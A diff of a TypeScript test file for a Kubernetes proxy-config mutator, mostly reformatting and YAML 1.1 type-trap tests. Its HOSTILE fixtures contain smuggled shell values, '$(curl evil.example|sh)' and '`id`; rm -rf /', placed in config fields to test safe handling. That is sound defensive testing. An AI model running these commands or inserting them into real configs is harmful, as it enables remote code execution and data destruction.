@@ -28,7 +28,7 @@ import type { RegisteredMutator } from '../../fn/mutators/types.ts';
 const noPlan = (): never => {
   throw new Error('a test mutator makes no plan');
 };
-import { readData } from '../helpers/reliability-tree.ts';
+import { readData, shownReading } from '../helpers/reliability-tree.ts';
 import { TRICKY_STRINGS } from './arbitraries.ts';
 import type { Obj } from './arbitraries.ts';
 
@@ -55,8 +55,9 @@ const HOSTILE: ReadonlyArray<{ name: string; value: string }> = [
   {
     name: 'tags on the keys kube-graceful sets',
     value:
-      'holdApplicationUntilProxyStarts: !!str ' +
-      'true\nterminationDrainDuration: !!str 5s\ndrainDuration: !!int 5\n',
+      'holdApplicationUntilProxyStarts: !!str true\n' +
+      'terminationDrainDuration: !!str 5s\n' +
+      'drainDuration: !!int 5\n',
   },
   { name: 'two documents', value: 'concurrency: 2\n---\nholdApplicationUntilProxyStarts: false\n' },
   {
@@ -68,8 +69,8 @@ const HOSTILE: ReadonlyArray<{ name: string; value: string }> = [
   {
     name: 'shell metacharacters inside valid fields',
     value:
-      'tracing: {zipkin: {address: "$(curl ' +
-      'evil.example|sh):9411"}}\nproxyMetadata: {HOOK: "`id`; rm -rf /"}\n',
+      'tracing: {zipkin: {address: "$(curl evil.example|sh):9411"}}\n' +
+      'proxyMetadata: {HOOK: "`id`; rm -rf /"}\n',
   },
   { name: 'a list', value: '- holdApplicationUntilProxyStarts: true\n' },
   { name: 'proxyMetadata as a list', value: 'proxyMetadata: [EXIT_ON_ZERO_ACTIVE_CONNECTIONS]\n' },
@@ -83,8 +84,9 @@ const HOSTILE: ReadonlyArray<{ name: string; value: string }> = [
   { name: 'deep nesting', value: `x: ${'['.repeat(5000)}${']'.repeat(5000)}\n` },
 ];
 
-/** ProxyConfig fields a mutator may set (DOMAIN §2); everything else must come out as it went in.
- * */
+/**
+ * ProxyConfig fields a mutator may set (DOMAIN §2); everything else must come out as it went in.
+ */
 const OWNED = new Set([
   'holdApplicationUntilProxyStarts',
   'terminationDrainDuration',
@@ -183,8 +185,10 @@ function annotationOf(output: string): unknown {
   return data.spec.template.metadata.annotations[ANNOTATION];
 }
 
-/** The config's data when it is one YAML mapping (an empty or comment-only one is `{}`), else
- * undefined. */
+/**
+ * The config's data when it is one YAML mapping (an empty or comment-only one is `{}`), else
+ * undefined.
+ */
 function mapping(text: string): Obj | undefined {
   const docs = parseAllDocuments(text, { version: '1.1' });
   if (!Array.isArray(docs) || docs.length > 1 || docs.some((d) => d.errors.length > 0))
@@ -252,7 +256,8 @@ for (const scenario of SCENARIOS) {
           // Left alone: either said so with a warning, or it already held what the mutator needs.
           t.true(
             warned || before !== undefined,
-            `left unchanged without a warning: ${JSON.stringify(result.findings.map((f) => f.code))}`,
+            'left unchanged without a warning: ' +
+              JSON.stringify(result.findings.map((f) => f.code)),
           );
           return;
         }
@@ -306,27 +311,25 @@ for (const scenario of SCENARIOS) {
   }
 }
 
-test(
-  'each scenario writes the annotation when its value is a plain mapping ' +
-    '(the merges above are real)',
-  (t) => {
-    for (const scenario of SCENARIOS) {
-      const result = transform(stringify(scenario.object('concurrency: 2\n'), { version: '1.1' }), {
-        flags: scenario.flags,
-      });
-      const after = annotationOf(result.output);
-      t.not(after, 'concurrency: 2\n', scenario.name);
-      t.is(mapping(String(after))?.['concurrency'], 2, `${scenario.name}: concurrency kept`);
-    }
-  },
-);
+test('each scenario writes the annotation when its value is a plain mapping (the merges above are real)', (t) => {
+  for (const scenario of SCENARIOS) {
+    const result = transform(stringify(scenario.object('concurrency: 2\n'), { version: '1.1' }), {
+      flags: scenario.flags,
+    });
+    const after = annotationOf(result.output);
+    t.not(after, 'concurrency: 2\n', scenario.name);
+    t.is(mapping(String(after))?.['concurrency'], 2, `${scenario.name}: concurrency kept`);
+  }
+});
 
 // ---------------------------------------------------------------------------------------------
 // Written values keep their type under a full YAML 1.1 reader
 // ---------------------------------------------------------------------------------------------
 
-/** Strings that YAML 1.1 (PyYAML, go-yaml v2, the yaml-1.1 schema) reads as something else when
- * plain. */
+/**
+ * Strings that YAML 1.1 (PyYAML, go-yaml v2, the yaml-1.1 schema) reads as something else when
+ * plain.
+ */
 const YAML11_TRAPS = [
   'yes',
   'no',
@@ -351,8 +354,9 @@ const YAML11_TRAPS = [
   '=',
 ];
 
-/** Sets every trap as an annotation, an env value and a command word, and grows the grace period.
- * */
+/**
+ * Sets every trap as an annotation, an env value and a command word, and grows the grace period.
+ */
 const trapWriter: RegisteredMutator = defineMutator<never, 'app-graceful'>({
   id: 'app-graceful',
   findingCodes: [],
@@ -450,10 +454,15 @@ const EDIT_PATHS: Record<string, string> = {
   'block document (new keys, replaced plain and quoted scalars)': POD,
   'JSON document': JSON.stringify(readData(POD)),
   'kind: List item':
-    `apiVersion: v1\nkind: List\nitems:\n- ${POD.trimEnd().split('\n').join('\n  ')}` + `\n`,
+    `apiVersion: v1\n` +
+    `kind: List\n` +
+    `items:\n` +
+    `- ${POD.trimEnd().split('\n').join('\n  ')}\n`,
   'ResourceList item':
-    `apiVersion: config.kubernetes.io/v1\nkind: ResourceList\nitems:\n- ${POD.trimEnd().split('\n').join('\n  ')}` +
-    `\n`,
+    `apiVersion: config.kubernetes.io/v1\n` +
+    `kind: ResourceList\n` +
+    `items:\n` +
+    `- ${POD.trimEnd().split('\n').join('\n  ')}\n`,
   'CRLF document': POD.replace(/\n/g, '\r\n'),
   // An explicit key (`? existing`) defeats the text splice; the tree fallback prints the document.
   'syntax-tree fallback': POD.replace('    existing: "kept"\n', '    ? existing\n    : "kept"\n'),
@@ -467,7 +476,7 @@ for (const [name, input] of Object.entries(EDIT_PATHS)) {
       t.deepEqual(
         read,
         wrote,
-        `${path}: written ${JSON.stringify(wrote)}, a YAML 1.1 reader gets ${read instanceof Date ? `the date ${read.toISOString()}` : JSON.stringify(read)}`,
+        `${path}: written ${JSON.stringify(wrote)}, a YAML 1.1 reader gets ${shownReading(read)}`,
       );
     // And the engine's own reading (no timestamps, no sexagesimal) agrees.
     const again = transform(result.output, { mutators: [trapWriter] });
@@ -479,22 +488,17 @@ for (const [name, input] of Object.entries(EDIT_PATHS)) {
   });
 }
 
-test(
-  'YAML 1.1 traps are quoted where they are written (regression: 1:30 ' +
-    'and 2001-01-01 went out plain)',
-  (t) => {
-    const { output } = transform(POD, { mutators: [trapWriter] });
-    for (const trap of ['1:30', '190:20:30', '2001-01-01'])
-      t.true(output.includes(`"${trap}"`), `${trap} is quoted`);
-    t.false(/^\s*- 1:30$/m.test(output), 'no plain 1:30 list item');
-    t.is(
-      typeof (
-        parseDocument(output, { version: '1.1' }).toJS() as { metadata: { annotations: Obj } }
-      ).metadata.annotations['trap.example/13'],
-      'string',
-    );
-  },
-);
+test('YAML 1.1 traps are quoted where they are written (regression: 1:30 and 2001-01-01 went out plain)', (t) => {
+  const { output } = transform(POD, { mutators: [trapWriter] });
+  for (const trap of ['1:30', '190:20:30', '2001-01-01'])
+    t.true(output.includes(`"${trap}"`), `${trap} is quoted`);
+  t.false(/^\s*- 1:30$/m.test(output), 'no plain 1:30 list item');
+  t.is(
+    typeof (parseDocument(output, { version: '1.1' }).toJS() as { metadata: { annotations: Obj } })
+      .metadata.annotations['trap.example/13'],
+    'string',
+  );
+});
 
 test('every generated tricky string survives as a written value', (t) => {
   // TRICKY_STRINGS also drive the property tests' generated manifests (arbitraries.ts).
